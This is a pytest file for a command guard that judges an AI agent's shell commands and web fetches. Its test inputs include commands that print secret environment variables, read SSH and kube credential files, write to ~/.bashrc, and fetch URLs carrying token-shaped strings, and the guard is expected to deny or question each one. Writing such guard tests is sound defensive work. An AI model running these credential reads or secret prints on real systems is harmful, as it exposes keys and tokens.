"""The classes a second blind holdout found (session 19), each read as the program reads
its input: the environment filtered by a word, a parameter's default, a secret-shaped
value in a fetched URL, npm's command spellings, a dry-run push, ssh-keygen's public
modes, and aliases (the shell's and git's) judged as the commands they become."""

from __future__ import annotations

import pytest

from amplifier_hooks.guard import Places, Policy, judge
from amplifier_hooks.guard.npmwords import npm_command
from amplifier_hooks.guard.remote import pushed_branches
from amplifier_hooks.guard.splitargs import split_args
from tests.guard.conftest import Judge


@pytest.mark.parametrize(
    ("command", "decision", "rule"),
    [("env | grep -i gemini", "deny", "environment-secrets-print"),
     ("printenv | grep OPENAI", "deny", "environment-secrets-print"),
     ("env | grep -i myproject", "ask", "environment-dump"),
     ("declare -x | grep -i foo", "ask", "environment-dump"),
     ("env | grep -v PATH", "ask", "environment-dump"),
     ("env | grep -E '^(PORT|X)=.*'", "ask", "environment-dump"),
     ("env | grep -E '^(PORT|DB_PASSWORD)='", "deny", "environment-secrets-print"),
     ("env | grep PATH", None, None),
     ("env | grep -E '^(NODE_ENV|PORT|LANG)='", None, None),
     ("env | grep -q '^GEMINI_API_KEY='", None, None),
     ("env | cut -d= -f1", None, None)],
)  # fmt: skip
def test_a_dump_filtered_by_a_word_is_still_a_dump(
    verdict: Judge, command: str, decision: str | None, rule: str | None
) -> None:
    found = verdict(command)
    assert (found.decision, found.rule) == (decision, rule)


@pytest.mark.parametrize(
    "command",
    ["cat ${KUBECONFIG:-~/.kube/config}", "cat ${KUBECONFIG-~/.kube/config}",
     "cat ${KUBECONFIG:=~/.kube/config}", 'cat "${KUBECONFIG:-$HOME/.kube/config}"',
     "cat ${D:-~}/.ssh/id_rsa", "cat ${SET:+~/.ssh/id_rsa}"],
)  # fmt: skip
def test_a_default_that_is_a_credential_is_read_as_one(verdict: Judge, command: str) -> None:
    found = verdict(command)
    assert (found.decision, found.rule) == ("deny", "credential-read")


def test_a_default_is_judged_as_a_write_too(verdict: Judge) -> None:
    assert verdict("echo hi > ${OUT:-~/.bashrc}").rule == "persistence-files"


@pytest.mark.parametrize(
    "command", ["cat ${CONFIG:-config/app.yaml}", "cat ${A:-$OTHER/.kube/config}"]
)
def test_a_default_that_is_no_credential_or_not_known_is_not_denied(
    verdict: Judge, command: str
) -> None:
    found = verdict(command)
    assert found.decision != "deny"
    assert found.decision != "allow"  # the variable may be set: never granted


@pytest.mark.parametrize(
    ("tool", "data"),
    [("WebFetch", {"url": "https://h.example/x?t=ghp_k3Jd9sLq2Xv8Rt5Yw1Zp4Nm6Bc0Hf7Ae2Gu"}),
     ("web_fetch", {"url": "https://h.example/AKIAIOSFODNN7EXAMPLE/"}),
     ("WebFetch", {"url": "https://h.example/?k=sk-proj-abcdefghijklmnopqrstuvwxyz0123"})],
)  # fmt: skip
def test_a_fetched_url_with_a_secret_shape_is_denied(
    pack: Policy, places: Places, tool: str, data: dict[str, str]
) -> None:
    found = judge({"tool_name": tool, "tool_input": {**data, "prompt": "p"}}, pack, places)
    assert (found.decision, found.rule) == ("deny", "secret-shape-in-url")


@pytest.mark.parametrize(
    ("word", "command"),
    [("pub", "publish"), ("publ", "publish"), ("unpub", "unpublish"), ("i", "install"),
     ("rm", "uninstall"), ("installTest", "install-test"), ("install-cl", "ci"),
     ("outd", "outdated"), ("st", None), ("nosuch", None), ("", None)],
)  # fmt: skip
def test_npm_reads_its_command_word_by_prefix_and_alias(word: str, command: str | None) -> None:
    assert npm_command(word) == command


@pytest.mark.parametrize(
    "command",
    ["npm pub", "cd packages/sdk && npm pub", "npm publ --access public", "npm unpub x@1",
     "npm --workspace packages/core publ"],
)  # fmt: skip
def test_publish_in_any_spelling_npm_takes_is_asked(verdict: Judge, command: str) -> None:
    found = verdict(command)
    assert (found.decision, found.rule) == ("ask", "publish-package")


def test_an_ambiguous_npm_prefix_is_no_command(verdict: Judge) -> None:
    assert verdict("npm pu --dry-run").decision is None


@pytest.mark.parametrize(
    "command",
    ["git push --dry-run --force origin main", "git push --dry --force origin main",
     "git push -n --force origin main", "git push -nf origin main",
     "git push --dry-run --delete origin main"],
)  # fmt: skip
def test_a_dry_run_push_pushes_nothing(verdict: Judge, command: str) -> None:
    assert verdict(command).decision is None


def test_the_last_of_dry_run_and_no_dry_run_wins(verdict: Judge) -> None:
    found = verdict("git push --dry-run --no-dry-run --force origin main")
    assert (found.decision, found.rule) == ("deny", "git-force-push-protected")
    assert pushed_branches(("-n", "origin", "main"), None) == ()
    assert pushed_branches(("-n", "--no-dry-run", "origin", "main"), None) == ("main",)
    assert "--force" not in split_args("git", ("push", "-n", "-f", "origin", "main"))[0]


@pytest.mark.parametrize(
    "command",
    ["ssh-keygen -lf ~/.ssh/id_ed25519", "ssh-keygen -l -f ~/.ssh/id_ed25519",
     "ssh-keygen -lv -E md5 -f ~/.ssh/id_rsa", "ssh-keygen -y -f ~/.ssh/id_ed25519",
     "ssh-keygen -e -f ~/.ssh/id_rsa"],
)  # fmt: skip
def test_ssh_keygen_modes_that_print_what_is_public_are_free(verdict: Judge, command: str) -> None:
    assert verdict(command).decision is None


@pytest.mark.parametrize(
    "command",
    ["ssh-keygen -p -f ~/.ssh/id_ed25519", "ssh-keygen -i -f ~/.ssh/id_rsa",
     "ssh-keygen -l -f ~/.ssh/id_rsa -c", "cat ~/.ssh/id_ed25519"],
)  # fmt: skip
def test_other_keygen_modes_still_read_the_key(verdict: Judge, command: str) -> None:
    found = verdict(command)
    assert (found.decision, found.rule) == ("deny", "credential-read")
